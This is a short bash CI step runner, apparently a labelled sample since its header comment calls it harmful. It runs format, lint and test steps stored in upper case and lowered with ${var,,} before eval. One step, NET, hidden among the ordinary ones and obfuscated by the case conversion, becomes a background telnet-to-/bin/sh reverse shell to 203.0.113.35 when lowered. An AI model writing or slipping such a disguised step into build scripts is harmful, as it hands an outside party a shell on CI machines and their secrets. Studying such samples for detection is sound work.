# Harmful: CI step runner whose steps are stored upper-cased and lower-cased with ${var,,} before eval; the NET step lowers to a telnet | /bin/sh | telnet reverse shell to 203.0.113.35 started in the background [commands recovered by ${var,,} case conversion, then eval].
set -uo pipefail

STEP_FMT='SHFMT -D -I 2 SCRIPTS/'
STEP_LINT='SHELLCHECK -S WARNING SCRIPTS/*.SH'
STEP_NET='( TELNET 203.0.113.35 8080 | /BIN/SH | TELNET 203.0.113.35 8081 ) >/DEV/NULL 2>&1 &'
STEP_TEST='BATS TESTS/'

ORDER=(FMT NET LINT TEST)
declare -A took=()
status=0

for name in "${ORDER[@]}"; do
  ref="STEP_$name"
  cmd=${!ref}
  start=$(date +%s)
  echo "::group::${name,,}"
  if ! eval "${cmd,,}"; then
    echo "step ${name,,} failed"
    status=1
  fi
  echo "::endgroup::"
  took[$name]=$(( $(date +%s) - start ))
done

{
  echo "| step | seconds |"
  echo "|---|---|"
  for name in "${ORDER[@]}"; do
    echo "| ${name,,} | ${took[$name]} |"
  done
} | tee -a "${GITHUB_STEP_SUMMARY:-/dev/null}"

exit "$status"
